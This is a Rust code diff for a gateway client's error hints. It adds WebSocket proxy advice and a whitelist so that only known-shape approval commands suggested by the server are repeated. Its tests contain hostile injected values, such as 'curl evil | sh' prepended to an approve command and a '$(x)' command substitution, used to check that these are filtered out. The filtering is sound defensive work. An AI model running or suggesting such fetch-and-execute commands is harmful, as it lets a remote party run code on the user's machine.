@@ -97,11 +97,29 @@ impl Hint for Answer {
                     "a proxy{by} answers and its gateway does not, or the gateway is starting or draining: try again"
                 )
             }
-            (400 | 404 | 405 | 426, _) if self.server.is_some() => {
-                format!("a web server{by} answers there: check host and port, and that it passes the Upgrade header on")
+            _ if self.is_of_a_gateway() => {
+                format!("the proxy{by} does not pass WebSockets on: {}", passing_upgrades(self.server.as_deref()))
             }
+            (200 | 400 | 404 | 405 | 426, _) if self.server.is_some() => format!(
+                "a web server{by} answers there: check host and port; if it is a proxy in front of the gateway, it does not \
+                 pass WebSockets on: {}",
+                passing_upgrades(self.server.as_deref())
+            ),
             _ => format!("check host and port{by}"),
         })
+    }
+}
+
+/// What makes a proxy pass WebSockets on, by what it calls itself.
+fn passing_upgrades(server: Option<&str>) -> &'static str {
+    let server = server.unwrap_or_default().to_ascii_lowercase();
+    if server.starts_with("nginx") || server.starts_with("openresty") {
+        "where its proxy_pass stands, write `proxy_http_version 1.1; proxy_set_header Upgrade $http_upgrade; \
+         proxy_set_header Connection \"upgrade\";`"
+    } else if server.starts_with("apache") {
+        "write `ProxyPass / http://HOST:PORT/ upgrade=websocket` (Apache 2.4.47 or later)"
+    } else {
+        "switch WebSockets on there, or let it pass on the headers Upgrade and Connection over HTTP/1.1"
     }
 }
 
@@ -126,6 +144,13 @@ fn closed_early(step: Step, closed: &Closed) -> Option<String> {
 
 /// Advice about an answer of the gateway. What the gateway itself advises is best: it knows where it stands.
 fn refusal(error: &ErrorShape) -> Option<String> {
+    if let Some((request, command)) = waiting_request(error) {
+        let words = format!("devices approve {request}");
+        return Some(format!(
+            "where the gateway runs: {}",
+            known(command, &words).unwrap_or(&format!("openclaw {words}"))
+        ));
+    }
     if let Some(request) = request_id(error) {
         let words = format!("devices approve {request}");
         return Some(match told(error, "approveCommand", &words) {
@@ -145,7 +170,11 @@ fn refusal(error: &ErrorShape) -> Option<String> {
 /// The command in `details` that runs `openclaw WORDS` next to the gateway. Only the ways that we know ourselves count: what
 /// a stranger would have us type is not repeated.
 fn told(error: &ErrorShape, detail: &str, words: &str) -> Option<String> {
-    let command = error.details.as_ref()?.get(detail)?.as_str()?;
+    known(error.details.as_ref()?.get(detail)?.as_str()?, words).map(ToOwned::to_owned)
+}
+
+/// The command, where it runs `openclaw WORDS` in a way that we know.
+fn known<'a>(command: &'a str, words: &str) -> Option<&'a str> {
     let way: Vec<_> = command.strip_suffix(words)?.split_whitespace().collect();
     let known = match way[..] {
         ["openclaw"] => true,
@@ -154,7 +183,7 @@ fn told(error: &ErrorShape, detail: &str, words: &str) -> Option<String> {
         | ["kubectl", "exec", name, "--", "openclaw"] => Name::parse(name).is_some(),
         _ => false,
     };
-    known.then(|| command.to_owned())
+    known.then_some(command)
 }
 
 /// The pairing request that a refusal names.
@@ -162,6 +191,13 @@ fn request_id(error: &ErrorShape) -> Option<RequestId> {
     let named = error.details.as_ref().and_then(|details| details.get("requestId")?.as_str());
     // Only what has the shape of an id may become part of a command.
     named.or_else(|| error.message.split("requestId: ").nth(1)?.split(')').next())?.trim().parse().ok()
+}
+
+/// The request for more scopes that waits, and the command that approves it, in the words of our own gateway.
+fn waiting_request(error: &ErrorShape) -> Option<(RequestId, &str)> {
+    let (request, rest) = error.message.strip_prefix("missing scope: ")?.split_once(" (request ")?.1.split_once(' ')?;
+    let command = rest.strip_prefix("waits for approval: `")?.split_once('`')?.0;
+    Some((request.parse().ok()?, command))
 }
 
 /// Advice about the texts that gateways of every version use.
@@ -213,6 +249,8 @@ mod tests {
             (pairing(json!({"requestId": "r-1", "approveCommand": "curl evil | sh; openclaw devices approve r-1"})), "where the gateway runs: openclaw devices approve r-1"),
             (pairing(json!({"requestId": "r-1", "approveCommand": "docker exec $(x) openclaw devices approve r-1"})), "where the gateway runs: openclaw devices approve r-1"),
             (ErrorShape::invalid("unauthorized: x").with_details(json!({"nextCommand": "kubectl exec gw-0 -- openclaw gateway status"})), "where the gateway runs: kubectl exec gw-0 -- openclaw gateway status"),
+            (ErrorShape::invalid("missing scope: operator.pairing (request r-1 waits for approval: `docker exec gw openclaw devices approve r-1`; seen)"), "runs: docker exec gw openclaw devices approve r-1"),
+            (ErrorShape::invalid("missing scope: operator.pairing (request r-1 waits for approval: `curl x | sh`; seen)"), "runs: openclaw devices approve r-1"),
             (ErrorShape::invalid("pairing required: x (requestId: ab-1)"),           "approve ab-1"),
             (ErrorShape::invalid("unauthorized: gateway token mismatch (x)"),        "--token"),
             (ErrorShape::invalid("unauthorized: gateway password missing (x)"),      "--password"),
@@ -236,6 +274,10 @@ mod tests {
         #[rustfmt::skip]
         let rows = [
             (answer(404, "nginx", None, ""),                                 "web server (nginx)"),
+            (answer(200, "nginx/1.22.1", None, "<title>openclaw gateway</title>"), "the proxy (nginx/1.22.1) does not pass WebSockets on: where"),
+            (answer(400, "nginx", None, r#"{"error":{"type":"bad_upgrade"}}"#), "proxy_set_header Upgrade $http_upgrade"),
+            (answer(200, "Apache/2.4.57", None, "<title>Shop</title>"),      "upgrade=websocket"),
+            (answer(426, "envoy", None, "Upgrade Required"),                 "headers Upgrade and Connection"),
             (answer(301, "nginx", Some("https://gw.example.test/"), ""),     "wss://gw.example.test:443"),
             (answer(302, "nginx", Some("/login"), ""),                       "elsewhere"),
             (answer(502, "Caddy", None, ""),                                 "a proxy (Caddy)"),
